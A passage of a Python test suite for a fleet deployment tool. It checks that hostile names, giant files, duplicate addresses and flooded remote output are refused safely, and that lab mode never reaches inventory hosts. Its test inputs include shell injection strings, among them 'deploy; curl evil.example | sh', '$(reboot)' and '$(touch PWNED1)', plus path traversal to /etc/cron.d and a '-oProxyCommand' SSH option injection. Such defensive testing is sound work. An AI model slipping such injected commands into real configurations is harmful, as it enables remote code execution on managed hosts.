"""Hostile and broken input: every bad name, value, file and remote output gets a clear error
and touches nothing; every parser takes garbage without a traceback; `--lab` never reaches
an inventory address.

What the other unit tests already cover is not repeated here: random bytes and TOML-ish text
as the desired/host files (test_config_properties), cut and garbage collection output as a
whole (test_collect_parse), the transport's output cap against a real sshd
(test_transport_sshd), fleet's own render/parse round trip of env values
(test_units_envfile), shell quoting of remote commands (test_remote, test_transport).

A defect these tests find is marked `xfail(strict=True, reason="bug: …")` until fleet/ is fixed,
then the marker goes (docs/RELIABILITY.md lists what was found and fixed).
"""

from __future__ import annotations

import contextlib
import copy
import json
import math
import os
import socket
import subprocess
import threading
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import fleet_executable
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fleet import cli, config
from fleet.actions import Action
from fleet.collect import parse as parse_module
from fleet.collect.collector import collect, to_result
from fleet.collect.parse import parse_facts, parse_hashes, parse_host, parse_texts, parse_units
from fleet.collect.script import CollectSpec, build_script, spec_for
from fleet.envfile import render_file
from fleet.errors import FleetError, ParseError, TransportError
from fleet.journal import parse_since
from fleet.model import HostError, HostState
from fleet.output.json import status_json
from fleet.output.text import plan_text
from fleet.plan import Plan, PlanFileError, build_plan, pack_document, plan_from_json, unpack_document
from fleet.resources.env_file import parse_env
from fleet.secrets import load_secrets
from fleet.snapshot import pack, unpack
from fleet.status import build_status
from fleet.targets import resolve
from fleet.transport.fake import FakeTransport
from fleet.transport.protocol import RunResult
from fleet.units import render_unit

FleetDir = Any  # conftest.FleetDir
REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "fixtures" / "collect"
DESIRED = "desired_state.toml"
ENV_PATH = "/home/mastodon/live/.env.production"

QUICK = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def toml_str(s: str) -> str:
    """A TOML basic string (JSON string syntax; TOML also wants DEL escaped)."""
    return json.dumps(s, ensure_ascii=False).replace("\x7f", "\\u007f")


def check_json(capsys: pytest.CaptureFixture[str], root: Path) -> tuple[int, dict[str, Any], str]:
    code = cli.main(["--dir", str(root), "check", "--json"])
    out, err = capsys.readouterr()
    return code, json.loads(out), err


def errors_of(report: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for f in report["findings"] if f["severity"] == "error"]


# ====================================================================== hostile names


HOSTILE: dict[str, str] = {
    "semicolon": "a;b",
    "pipe": "a|b",
    "ampersand": "a&b",
    "dollar": "a$b",
    "command-substitution": "$(reboot)",
    "parentheses": "a(b)",
    "backtick": "a`id`",
    "single-quote": "a'b",
    "double-quote": 'a"b',
    "redirections": "a<b>c",
    "glob-star": "a*b",
    "glob-question-mark": "a?b",
    "space": "a b",
    "newline": "a\nb",
    "dot-dot": "..",
    "parent-path": "../../etc/cron.d/x",
    "absolute-path": "/etc/cron.d/x",
    "unicode": "frïtz",
    "very-long": "a" * 300,
    "option-like": "-oProxyCommand=x",
    "empty": "",
}


@dataclass(frozen=True)
class Slot:
    """Where a hostile value goes, and which finding must name it: (file suffix, key)."""

    name: str
    put: Callable[[FleetDir, str], tuple[str, str]]
    accepted: tuple[str, ...] = ()  # classes this slot accepts by design (see test below)
    impossible: tuple[str, ...] = ()  # classes that cannot be written into this slot at all


def _host_file(fd: FleetDir, v: str) -> tuple[str, str]:
    name = "a" * 200 if len(v) > 200 else v  # a file name has at most 255 bytes
    fd.write(f"hosts/{name}.toml", 'address = "zz.example.org"\n')
    return f"{name}.toml", ""


def _host_key(key: str, old: str) -> Callable[[FleetDir, str], tuple[str, str]]:
    def put(fd: FleetDir, v: str) -> tuple[str, str]:
        new = f'roles = ["cdn", {toml_str(v)}]' if key == "roles" else f"{key} = {toml_str(v)}"
        fd.edit(old, new, file="hosts/franz.toml")
        return "hosts/franz.toml", key
    return put


def _service(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.append(f'[services.{toml_str(v)}]\nkind = "generic"\nunit = "x.service"\nhosts = ["fritz"]\n'
              f'[services.{toml_str(v)}.unit_file]\nexec_start = "/bin/true"\n')
    return DESIRED, f"services.{v}"


def _unit(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.edit('unit = "mastodon-streaming.service"', f"unit = {toml_str(v + '.service')}")
    return DESIRED, "services.streaming.unit"


def _pattern(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.edit('pattern = "nginx*"', f"pattern = {toml_str(v)}")
    return DESIRED, "discover.pattern"


def _env_path(v: str) -> str:
    return v if v.startswith("/") else "/home/mastodon/live/" + v


def _env_file_path(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.edit(f'path = "{ENV_PATH}"', f"path = {toml_str(_env_path(v))}")
    return DESIRED, "env_files.mastodon.path"


def _unit_env_file(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.edit(f'environment_files = ["{ENV_PATH}"]\nexec_start = "/usr/bin/node',
            f'environment_files = [{toml_str(_env_path(v))}]\nexec_start = "/usr/bin/node')
    return DESIRED, "services.streaming.unit_file.environment_files"


def _env_key(fd: FleetDir, v: str) -> tuple[str, str]:
    fd.edit('SMTP_PORT = "587"', f'SMTP_PORT = "587"\n{toml_str(v)} = "x"')
    return DESIRED, f"env_files.mastodon.values.{v}"


# Paths are quoted everywhere they reach a shell, so an env file path may hold any character
# but a control character, and must be absolute without `..`; glob characters are what a
# discovery pattern is made of.  Both are shown to be harmless further down.
PATH_OK = ("semicolon", "pipe", "ampersand", "dollar", "command-substitution", "parentheses", "backtick",
           "single-quote", "double-quote", "redirections", "glob-star", "glob-question-mark", "space",
           "absolute-path", "unicode", "very-long", "option-like", "empty")
SLOTS = [
    Slot("host file name", _host_file, impossible=("parent-path", "absolute-path")),
    Slot("address", _host_key("address", 'address = "franz.hachyderm.internal"')),
    Slot("user", _host_key("user", 'user = "deploy"')),
    Slot("role", _host_key("roles", 'roles = ["cdn"]')),
    Slot("service name", _service),
    Slot("unit name", _unit),
    Slot("discovery pattern", _pattern, accepted=("glob-star", "glob-question-mark", "dot-dot")),
    Slot("env file path", _env_file_path, accepted=PATH_OK),
    Slot("unit environment file", _unit_env_file, accepted=PATH_OK),
    Slot("env key", _env_key),
]
REFUSED = [pytest.param(s, cls, id=f"{s.name}-{cls}") for s in SLOTS for cls in HOSTILE
           if cls not in s.accepted and cls not in s.impossible]


@pytest.mark.parametrize(("slot", "cls"), REFUSED)
def test_a_hostile_name_is_a_finding_naming_its_file_and_key(capsys: pytest.CaptureFixture[str], example: FleetDir,
                                                             slot: Slot, cls: str) -> None:
    file, key = slot.put(example, HOSTILE[cls])
    code, report, err = check_json(capsys, example.root)
    assert code == 1 and not report["ok"]
    assert err == ""  # findings, not a traceback
    named = [f for f in errors_of(report) if f["file"].endswith(file) and f["key"] == key]
    assert named, f"no error names {file} [{key}]: {errors_of(report)}"
    assert all(f["code"] in ("config.bad-name", "config.bad-value") for f in named), named


def test_every_hostile_slot_at_once_is_reported_in_one_run_of_the_real_executable(example: FleetDir) -> None:
    exe = fleet_executable()
    named = [slot.put(example, "$(reboot)") for slot in SLOTS if slot.name not in ("env file path",
                                                                                    "unit environment file")]
    named += [_env_file_path(example, "../x"), _unit_env_file(example, "a\nb")]
    done = subprocess.run([exe, "--dir", str(example.root), "check"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "NO_COLOR": "1"}, check=False)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and done.stderr == ""
    for file, key in named:
        assert any(file in line and (not key or f"[{key}]" in line) for line in done.stdout.splitlines()
                   if line.startswith("error: ")), (file, key, done.stdout)


@pytest.mark.parametrize("path", ["home/mastodon/live/.env.production", "./.env", "~/.env", "/home/m/./../x"])
def test_an_env_file_path_that_is_relative_or_climbs_is_a_finding(capsys: pytest.CaptureFixture[str],
                                                                  example: FleetDir, path: str) -> None:
    example.edit(f'path = "{ENV_PATH}"', f"path = {toml_str(path)}")
    code, report, _ = check_json(capsys, example.root)
    assert code == 1
    assert any(f["key"] == "env_files.mastodon.path" and "absolute" in f["message"] for f in errors_of(report))


def test_an_env_file_path_full_of_shell_syntax_is_only_ever_data(capsys: pytest.CaptureFixture[str],
                                                                 example: FleetDir, tmp_path: Path) -> None:
    """Accepted by `fleet check` (it is a legal absolute path), so it must reach the remote
    script quoted: the collector reads exactly that file and no command in its name runs."""
    work = tmp_path / "host"
    work.mkdir()
    path = str(work / "it's; $(touch PWNED1) `touch PWNED2` | touch PWNED3 & <x> *?.env")
    example.edit(f'path = "{ENV_PATH}"', f"path = {toml_str(path)}")
    code, report, _ = check_json(capsys, example.root)
    assert code == 0, errors_of(report)
    desired = example.load().desired
    Path(path).write_text(render_file([("LOCAL_DOMAIN", "hachyderm.io"), ("DB_PASS", "s3cr3t $(id)")]))
    spec = spec_for(desired, "fritz")
    assert [p for p, _ in spec.of("env")] == [path]
    script = build_script(CollectSpec(kinds=(("env", spec.of("env")),)))
    done = subprocess.run(["sh", "-c", script], cwd=work, capture_output=True, timeout=30, check=False)
    state = parse_host("fritz", done.stdout.decode())
    (env,) = state.env_files
    assert env.path == path and env.present
    assert env.value_map() == {"LOCAL_DOMAIN": "hachyderm.io"} and list(env.secret_map()) == ["DB_PASS"]
    assert sorted(p.name for p in work.iterdir()) == [Path(path).name]  # nothing else was created
    assert not list(Path.cwd().glob("PWNED*"))


# ---------------------------------------------------------------------- found bugs in the same area


def test_an_env_file_path_naming_a_directory_is_a_finding(capsys: pytest.CaptureFixture[str],
                                                          example: FleetDir) -> None:
    _env_file_path(example, "")  # "/home/mastodon/live/"
    code, report, _ = check_json(capsys, example.root)
    assert code == 1 and any(f["key"] == "env_files.mastodon.path" for f in errors_of(report))


def test_a_percent_sign_in_an_environment_file_path_reaches_systemd_literally(capsys: pytest.CaptureFixture[str],
                                                                             example: FleetDir) -> None:
    path = "/home/mastodon/live/100%h.env"
    example.edit(f'path = "{ENV_PATH}"', f"path = {toml_str(path)}")
    example.edit(f'environment_files = ["{ENV_PATH}"]\nexec_start = "/usr/bin/node',
                 f'environment_files = [{toml_str(path)}]\nexec_start = "/usr/bin/node')
    code, report, _ = check_json(capsys, example.root)
    desired = example.load().desired
    if code == 1:
        return  # refusing '%' in env file paths is a fix too
    assert desired is not None
    streaming = desired.service("streaming")
    assert streaming is not None
    assert "EnvironmentFile=/home/mastodon/live/100%%h.env" in render_unit(streaming).splitlines()


def test_a_nul_character_in_an_env_value_is_a_finding(capsys: pytest.CaptureFixture[str], example: FleetDir) -> None:
    example.edit('S3_BUCKET = "hachyderm-media"', 'S3_BUCKET = "hachyderm\\u0000media"')
    code, report, _ = check_json(capsys, example.root)
    assert code == 1 and any(f["key"] == "env_files.mastodon.values.S3_BUCKET" for f in errors_of(report))


# ====================================================================== giant files


def test_a_desired_state_file_over_one_mib_is_refused_with_a_finding(capsys: pytest.CaptureFixture[str],
                                                                    example: FleetDir) -> None:
    example.append("#" * (config.MAX_FILE_BYTES + 1))
    code, report, err = check_json(capsys, example.root)
    assert code == 1 and err == ""
    (f,) = errors_of(report)
    assert f["code"] == "config.too-large" and f["file"].endswith(DESIRED)
    assert "fleet refuses files over 1048576 bytes" in f["message"]


def test_a_giant_host_file_is_refused_and_the_other_hosts_still_load(capsys: pytest.CaptureFixture[str],
                                                                     example: FleetDir) -> None:
    example.write("hosts/franz.toml", "# padding\n" * 200_000)
    code, report, _ = check_json(capsys, example.root)
    assert code == 1
    assert [(f["code"], Path(f["file"]).name) for f in errors_of(report)] == [("config.too-large", "franz.toml")]


def test_a_giant_file_is_refused_without_reading_it_into_memory(example: FleetDir) -> None:
    with open(example.hosts_dir / "zz.toml", "wb") as f:
        f.truncate(128 << 20)  # sparse: costs no disk
    tracemalloc.start()
    try:
        loaded = example.load()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert any(f.code == "config.too-large" for f in loaded.findings)
    assert peak < 16 << 20, f"peak {peak >> 20} MiB while refusing a 128 MiB file"


# ====================================================================== two names, one machine


@pytest.mark.parametrize(("franz", "freud"), [
    ('address = "db.example.org"', 'address = "db.example.org"'),
    ('address = "DB.Example.ORG"', 'address = "db.example.org"'),
    ('address = "db.example.org"\nport = 22', 'address = "db.example.org"'),
], ids=["same", "case", "implicit-port-22"])
def test_two_host_files_pointing_at_one_address_is_a_finding_naming_both(capsys: pytest.CaptureFixture[str],
                                                                          example: FleetDir, franz: str,
                                                                          freud: str) -> None:
    example.write("hosts/franz.toml", franz + '\nuser = "deploy"\nsudo = true\nroles = ["cdn"]\n')
    example.write("hosts/freud.toml", freud + '\nuser = "deploy"\nsudo = true\nroles = ["worker"]\n')
    code, report, _ = check_json(capsys, example.root)
    assert code == 1
    (f,) = [f for f in errors_of(report) if f["code"] == "hosts.same-address"]
    assert "franz" in f["message"] and "freud" in f["message"] and f["key"] == "address"


def test_one_address_on_two_ports_is_two_machines(capsys: pytest.CaptureFixture[str], example: FleetDir) -> None:
    example.edit('address = "franz.hachyderm.internal"\nport = 22', 'address = "gw.example.org"\nport = 2201',
                 file="hosts/franz.toml")
    example.edit('address = "freud.hachyderm.internal"\nport = 22', 'address = "gw.example.org"\nport = 2202',
                 file="hosts/freud.toml")
    code, report, _ = check_json(capsys, example.root)
    assert code == 0, errors_of(report)


@pytest.mark.parametrize(("a", "b"), [("db.example.org.", "db.example.org"), ("0::1", "0:0:0:0:0:0:0:1")],
                         ids=["trailing-dot", "ipv6-forms"])
def test_two_spellings_of_one_address_are_a_finding(capsys: pytest.CaptureFixture[str], example: FleetDir, a: str,
                                                    b: str) -> None:
    example.edit('address = "franz.hachyderm.internal"', f'address = "{a}"', file="hosts/franz.toml")
    example.edit('address = "freud.hachyderm.internal"', f'address = "{b}"', file="hosts/freud.toml")
    code, report, _ = check_json(capsys, example.root)
    assert code == 1 and any(f["code"] == "hosts.same-address" for f in errors_of(report))


# ====================================================================== touches nothing


class Canary:
    """TCP listeners on 127.0.0.1 that count connections: an inventory pointed at them shows
    whether fleet tried to reach a host at all."""

    def __init__(self, n: int) -> None:
        self.socks = []
        for _ in range(n):
            s = socket.socket()
            s.bind(("127.0.0.1", 0))
            s.listen(16)
            s.settimeout(0.05)
            self.socks.append(s)
        self.hits = [0] * n
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    @property
    def ports(self) -> list[int]:
        return [int(s.getsockname()[1]) for s in self.socks]

    def _loop(self) -> None:
        while not self._stop.is_set():
            for i, s in enumerate(self.socks):
                try:
                    conn, _ = s.accept()
                except OSError:
                    continue
                self.hits[i] += 1
                conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        for s in self.socks:
            s.close()


@contextlib.contextmanager
def canaries(n: int) -> Iterator[Canary]:
    c = Canary(n)
    try:
        yield c
    finally:
        c.close()


def point_inventory_at(fd: FleetDir, ports: Sequence[int]) -> None:
    for path, port in zip(sorted(fd.hosts_dir.glob("*.toml")), ports, strict=True):
        text = path.read_text()
        lines = [ln for ln in text.splitlines() if not ln.startswith(("address", "port"))]
        path.write_text("\n".join(lines) + f'\naddress = "127.0.0.1"\nport = {port}\n')


def test_apply_with_a_hostile_inventory_refuses_before_contacting_any_host(
        capsys: pytest.CaptureFixture[str], example: FleetDir) -> None:
    with canaries(4) as c:
        point_inventory_at(example, c.ports)
        assert example.check() == []  # the canary inventory itself is valid
        example.edit('user = "deploy"', 'user = "deploy; curl evil.example | sh"', file="hosts/franz.toml")
        code = cli.main(["--dir", str(example.root), "apply", "--yes"])
        _, err = capsys.readouterr()
        time.sleep(0.1)
        assert c.hits == [0, 0, 0, 0]
    assert code == 1
    assert "franz.toml" in err and "[user]" in err and "Traceback" not in err


def test_a_broken_secrets_file_is_reported_without_echoing_the_secret(capsys: pytest.CaptureFixture[str],
                                                                      example: FleetDir, tmp_path: Path) -> None:
    secret = "hunter2-" + os.urandom(8).hex()
    bad = tmp_path / "secrets.toml"
    bad.write_text(f'[mastodon]\nDB_PASS = "{secret}\nSECRET_KEY_BASE = "x"\n')
    bad.chmod(0o600)
    with canaries(4) as c:
        point_inventory_at(example, c.ports)
        code = cli.main(["--dir", str(example.root), "plan", "--secrets", str(bad)])
        out, err = capsys.readouterr()
        time.sleep(0.1)
        assert c.hits == [0, 0, 0, 0]
    assert code == 1
    assert "cannot read the secrets file" in err and "nothing was planned" in err
    assert secret not in out + err


def test_a_secrets_file_readable_by_others_is_warned_about(example: FleetDir, tmp_path: Path) -> None:
    path = tmp_path / "secrets.toml"
    path.write_text('[mastodon]\nDB_PASS = "x"\n')
    path.chmod(0o644)
    desired = example.load().desired
    assert desired is not None
    _, findings = load_secrets(desired, path, environ={})
    (warning,) = [f for f in findings if f.code == "secrets.mode"]
    assert warning.severity == "warning" and "chmod 600" in warning.hint


# ====================================================================== --lab never reaches a real address


LAB_ID = "lab-under-test"


def write_lab_record(state: Path, runtime: Path, hosts: dict[str, tuple[str, str]], *, ssh_config: str = "",
                     current: str = LAB_ID) -> Path:
    """A lab record as `fleet lab up` leaves it: name -> (address, user)."""
    lab = state / "lab"
    lab.mkdir(parents=True, exist_ok=True)
    record = {"hosts": [{"name": n, "address": a, "user": u} for n, (a, u) in hosts.items()],
              "booted": "2026-11-28T00:00:00Z", "image": "test", "runtime": str(runtime),
              "ssh_config": ssh_config or str(lab / "ssh_config"), "known_hosts": str(lab / "known_hosts"),
              "identity": str(lab / "id_ed25519"), "lab_id": LAB_ID}
    (lab / "lab.json").write_text(json.dumps(record))
    (lab / "known_hosts").write_text("")
    runtime.mkdir(parents=True, exist_ok=True)
    (runtime / "current").write_text(current + "\n")
    return lab


LAB_HOSTS = {"franz": ("10.251.0.10", "deploy"), "freud": ("10.251.0.11", "deploy"),
             "fritz": ("10.251.0.12", "deploy"), "nietzsche": ("10.251.0.13", "root")}


@pytest.fixture
def lab_runtime(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    runtime = tmp_path / "runtime"
    monkeypatch.setenv("FLEET_LAB_RUNTIME", str(runtime))
    return runtime


def test_lab_targets_are_the_lab_records_addresses_and_files_never_the_inventorys(
        example: FleetDir, tmp_path: Path, lab_runtime: Path) -> None:
    desired = example.load().desired
    assert desired is not None
    lab = write_lab_record(tmp_path / "state", lab_runtime, LAB_HOSTS)
    targets = resolve(desired, state_dir=str(tmp_path / "state"), lab=True)
    assert targets.lab
    assert {h.name: (h.address, h.port, h.user) for h in targets.hosts} == {
        n: (a, 22, u) for n, (a, u) in LAB_HOSTS.items()}
    inventory = {h.address for h in desired.hosts}
    assert not inventory & {h.address for h in targets.hosts}
    assert targets.ssh_config == str(lab / "ssh_config")
    assert targets.known_hosts == (str(lab / "known_hosts"),)
    limited = resolve(desired, state_dir=str(tmp_path / "state"), lab=True, limit="fr*")
    assert {h.address for h in limited.hosts} == {"10.251.0.10", "10.251.0.11", "10.251.0.12"}


def test_without_lab_the_inventory_is_used_as_written(example: FleetDir, tmp_path: Path, lab_runtime: Path) -> None:
    desired = example.load().desired
    assert desired is not None
    write_lab_record(tmp_path / "state", lab_runtime, LAB_HOSTS)
    targets = resolve(desired, state_dir=str(tmp_path / "state"), lab=False)
    assert targets.hosts == desired.hosts and targets.ssh_config is None and targets.known_hosts is None


def test_lab_refuses_a_host_the_running_lab_does_not_have(example: FleetDir, tmp_path: Path,
                                                          lab_runtime: Path) -> None:
    desired = example.load().desired
    assert desired is not None
    write_lab_record(tmp_path / "state", lab_runtime, {k: v for k, v in LAB_HOSTS.items() if k != "nietzsche"})
    with pytest.raises(FleetError, match="nietzsche are not in the running lab"):
        resolve(desired, state_dir=str(tmp_path / "state"), lab=True)


def test_lab_refuses_a_record_of_a_lab_that_is_no_longer_up(example: FleetDir, tmp_path: Path,
                                                            lab_runtime: Path) -> None:
    desired = example.load().desired
    assert desired is not None
    write_lab_record(tmp_path / "state", lab_runtime, LAB_HOSTS, current="another-checkouts-lab")
    with pytest.raises(FleetError, match="no lab is recorded"):
        resolve(desired, state_dir=str(tmp_path / "state"), lab=True)


def test_lab_status_connects_only_to_the_lab_even_when_the_inventory_is_reachable(
        capsys: pytest.CaptureFixture[str], example: FleetDir, tmp_path: Path, lab_runtime: Path) -> None:
    """Inventory and lab both point at listeners on this machine; only the lab's are hit."""
    names = sorted(LAB_HOSTS)
    with canaries(4) as inventory, canaries(4) as labnet:
        point_inventory_at(example, inventory.ports)
        state = tmp_path / "state"
        lab = state / "lab"
        lab.mkdir(parents=True)
        (lab / "ssh_config").write_text("".join(
            f"Host {n}\n    HostName 127.0.0.1\n    Port {p}\n    IdentitiesOnly yes\n"
            f"    IdentityFile {lab / 'id_ed25519'}\n    UserKnownHostsFile {lab / 'known_hosts'}\n"
            for n, p in zip(names, labnet.ports, strict=True)))
        write_lab_record(state, lab_runtime, {n: ("127.0.0.1", "root") for n in names})
        code = cli.main(["--lab", "--dir", str(example.root), "--state-dir", str(state), "--connect-timeout", "2",
                         "status", "--json"])
        out, _ = capsys.readouterr()
        time.sleep(0.1)
        assert inventory.hits == [0, 0, 0, 0]
        assert all(n >= 1 for n in labnet.hits), labnet.hits
    assert code == 1  # the listeners are not SSH servers
    report = json.loads(out)
    assert all(not h["reachable"] for h in report["hosts"].values())


# ====================================================================== remote output: huge, truncated, garbage


def fixture_text(name: str) -> str:
    return (FIXTURES / f"{name}.txt").read_text()


def test_a_host_whose_output_exceeds_the_cap_is_that_hosts_error_and_the_others_report(example: FleetDir) -> None:
    desired = example.load().desired
    assert desired is not None
    too_big = TransportError("fritz", "output-too-large",
                             "stdout of `script` on fritz exceeded 64 MiB; the command was aborted",
                             hint="narrow the command's output, or raise max_output if this much is expected")
    hosts = FakeTransport()
    hosts.respond("", fixture_text("bare-fritz"))
    hosts.fail("fritz", too_big)
    results = collect(desired, hosts)
    fritz = results["fritz"]
    assert isinstance(fritz, HostError) and fritz.kind == "output-too-large" and "64 MiB" in fritz.message
    assert all(isinstance(results[h], HostState) for h in ("franz", "freud", "nietzsche"))
    report = status_json(build_status(desired, results))
    assert report["hosts"]["fritz"] == {"reachable": False, "error": {
        "kind": "output-too-large", "message": too_big.message, "hint": too_big.hint}}
    assert all(report["hosts"][h]["reachable"] for h in ("franz", "freud", "nietzsche"))


@pytest.mark.parametrize(("output", "error", "sections"), [
    (b"\x00\xff" * (4 << 20), "output does not start with the fleet header", []),
    (b"@@fleet 1\n@@facts\n" + b"k=v\n" * (2 << 20), "collection output is truncated", []),
    (b"@@fleet 1\n" + b"@@units\n" * (1 << 20), "section 'units' appears twice", ["units", "units"]),
    ((fixture_text("bare-fritz").split("@@text")[0] + "@@text\n@@file u /p\n").encode() + b"|x\n" * (2 << 20),
     "collection output is truncated", ["facts", "units", "hashes"]),
], ids=["binary-garbage", "facts-without-end", "section-flood", "endless-unit-text"])
def test_megabytes_of_broken_output_are_a_parse_error_for_that_host_with_bounded_work(
        output: bytes, error: str, sections: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """The work is bounded by what the parse looks at, not by the size of the output: it stops at
    the first section that cannot be fleet's (the section flood once cost a parse per repeat: a
    million of them, 3 to 7 s), and it keeps a few bytes per byte of output at most."""
    parsed: list[str] = []
    split = parse_module._sections

    def counted(host: str, text: str) -> Iterator[tuple[str, int, int]]:
        for section in split(host, text):
            parsed.append(section[0])
            yield section

    monkeypatch.setattr(parse_module, "_sections", counted)
    tracemalloc.start()
    try:
        result = to_result("fritz", RunResult("fritz", "script", 0, output, b"", 1.0))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(result, HostError) and result.kind == "parse", result
    assert result.message.startswith(f"fritz: {error}"), result.message
    assert parsed == sections, "sections parsed before the output was refused"
    assert peak < 4 * len(output), f"parsing {len(output) >> 20} MiB peaked at {peak >> 20} MiB"


def test_a_collection_killed_without_an_exit_status_says_so() -> None:
    result = to_result("fritz", RunResult("fritz", "script", -1, b"", b"", 1.0))
    assert isinstance(result, HostError) and result.kind == "remote"
    assert "(no exit status: the command was killed by a signal or its SSH session ended (is fritz shutting " \
           "down, or was its sshd killed?))" in result.message


def test_a_failed_script_with_a_flood_of_stderr_reports_only_its_last_line() -> None:
    stderr = b"noise\n" * 500_000 + b"sh: 1: systemctl: not found\n"
    result = to_result("fritz", RunResult("fritz", "script", 127, b"", stderr, 1.0))
    assert isinstance(result, HostError) and result.kind == "remote"
    assert result.message.endswith("(exit 127): sh: 1: systemctl: not found") and len(result.message) < 200


def _output_with(section: str, body: bytes) -> bytes:
    """A complete collection output (ending in @@end, so every section is parsed) whose `section`
    is replaced by `body`; the others come from a real capture."""
    parts = fixture_text("bare-fritz").split("\n@@")
    head, rest = parts[0], parts[1:]
    out = [head.encode()]
    for part in rest:
        name = part.split("\n", 1)[0]
        if name == "end":
            break
        if name == section or (section == "env" and name.startswith("env ")):
            continue
        out.append(b"@@" + part.encode())
    out.append(body.removesuffix(b"\n"))
    out.append(b"@@end\n")
    return b"\n".join(out)


SAMPLE = 4 << 20  # what the CLI's transport accepts per host


def _repeat(chunk: Callable[[int], bytes]) -> bytes:
    out, size, i = [], 0, 0
    while size < SAMPLE:
        c = chunk(i)
        out.append(c)
        size, i = size + len(c), i + 1
    return b"".join(out)


@pytest.mark.parametrize("section,body", [
    ("facts", b"@@facts\n" + b"k=v\n" * (SAMPLE // 4)),
    ("facts", b"@@facts\n" + b"hostname=x\n" * (SAMPLE // 11)),
    ("units", b"@@units\n" + _repeat(lambda i: b"Id=u%d.service\nLoadState=loaded\nActiveState=active\n\n" % i)),
    ("units", b"@@units\nId=u.service\n" + _repeat(lambda i: b"X%d=1\n" % i)),
    ("units", b"@@units\n" + b"\n" * SAMPLE),
    ("hashes", b"@@hashes\n" + _repeat(lambda i: b"%s  /etc/systemd/system/u%d.service\n" % (b"0" * 64, i))),
    ("text", b"@@text\n" + _repeat(lambda i: b"@@file u%d.service /etc/systemd/system/u%d.service\n" % (i, i)
                                    + b"|x\n" * 4999)),
    ("text", b"@@text\n" + _repeat(lambda i: b"@@file u.service /p%d\n|x\n" % i)),
    ("env", _repeat(lambda i: b"@@env /p%d\nmeta 600 root root 9\nV K v\n" % i)),
    ("env", b"@@env /p\nmeta 600 root root 9\n" + _repeat(lambda i: b"V K%d v\n" % i)),
], ids=["facts-unknown-keys", "facts-one-key-repeated", "units-many-blocks", "units-one-huge-block",
        "units-blank-lines", "hashes-many-files", "text-many-long-files", "text-many-files", "env-many-files",
        "env-many-keys"])
def test_the_largest_output_the_transport_accepts_costs_bounded_memory_to_parse(section: str, body: bytes) -> None:
    """Every section, flooded: the parse keeps a bounded amount (a parse error past fleet's limits) and
    at most a few bytes of memory per byte of output.  Bugs this found: `_sections` split the whole
    output into a list of lines (~20 bytes per byte), facts and unit blocks kept every key printed."""
    output = _output_with(section, body)
    assert len(output) >= SAMPLE
    tracemalloc.start()
    try:
        result = to_result("fritz", RunResult("fritz", "script", 0, output, b"", 1.0))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(result, HostState) or (result.kind == "parse" and result.message.startswith("fritz:")), result
    assert peak < 4 * len(output), f"parsing {len(output) >> 20} MiB peaked at {peak >> 20} MiB"


def test_a_flooded_section_is_refused_by_name_and_the_output_before_it_still_parses() -> None:
    result = to_result("fritz", RunResult("fritz", "script", 0, _output_with(
        "hashes", b"@@hashes\n" + b"".join(b"%s  /x%d\n" % (b"0" * 64, i) for i in range(60_000))), b"", 1.0))
    assert isinstance(result, HostError) and result.kind == "parse"
    assert result.message == ("fritz: the hashes section of the collection output holds more than 50,000 unit "
                              "files; fleet refuses it")
    assert "shell profile" in result.hint
    assert isinstance(to_result("fritz", RunResult("fritz", "script", 0, _output_with(
        "hashes", b"@@hashes\n" + b"".join(b"%s  /x%d\n" % (b"0" * 64, i) for i in range(100))), b"", 1.0)),
        HostState)


def test_a_host_reporting_nan_or_infinite_facts_still_gives_strict_json(example: FleetDir) -> None:
    text = "\n".join("load=nan inf -inf" if ln.startswith("load=") else "uptime=1e999" if ln.startswith("uptime=")
                     else ln for ln in fixture_text("bare-fritz").split("\n"))
    desired = example.load().desired
    assert desired is not None
    fritz = parse_host("fritz", text)
    one = replace(desired, hosts=tuple(h for h in desired.hosts if h.name == "fritz"))
    json.dumps(status_json(build_status(one, {"fritz": fritz})), allow_nan=False)


# ====================================================================== every parser, property-based

LINES = st.lists(st.one_of(
    st.text(max_size=60).map(lambda s: s.replace("\n", "")),
    st.sampled_from(["meta 0600 mastodon mastodon 12", "meta x", "absent", "invalid", "V K v", "V", "V K \"a\\",
                     "secret K " + "a" * 64, "secret K xyz", "secret", "Id=x.service", "Id=", "",
                     "ExecStart={ path=/x ; argv[]=/x -c 1 ; ignore_errors=no }", "MainPID=99999999999999999999",
                     "EnvironmentFiles=/a (ignore_errors=no) /b", "Environment=\"A=b c\" 'x", "NRestarts=-1",
                     "@@file u /p", "@@file", "|x", "@@truncated", "load=1 2", "mem_total_kb=1e9", "os=\""]),
), max_size=15)


@QUICK
@given(LINES)
def test_parse_env_turns_any_lines_into_an_env_state_or_a_parse_error(lines: list[str]) -> None:
    try:
        env = parse_env("h", "/p", lines)
    except ParseError as e:
        assert e.host == "h" and e.section == "env"
        return
    assert set(env.keys) >= set(env.value_map()) | set(env.secret_map())
    assert all(len(fp) == 64 for _, fp in env.secrets)


@QUICK
@given(LINES)
def test_parse_facts_never_raises(lines: list[str]) -> None:
    facts = parse_facts("h", lines)
    assert len(facts.load) == 3 and isinstance(facts.mem_total_kb, int)


@QUICK
@given(LINES)
def test_unit_sections_parse_or_fail_with_a_parse_error(lines: list[str]) -> None:
    try:
        hashes = parse_hashes("h", lines)
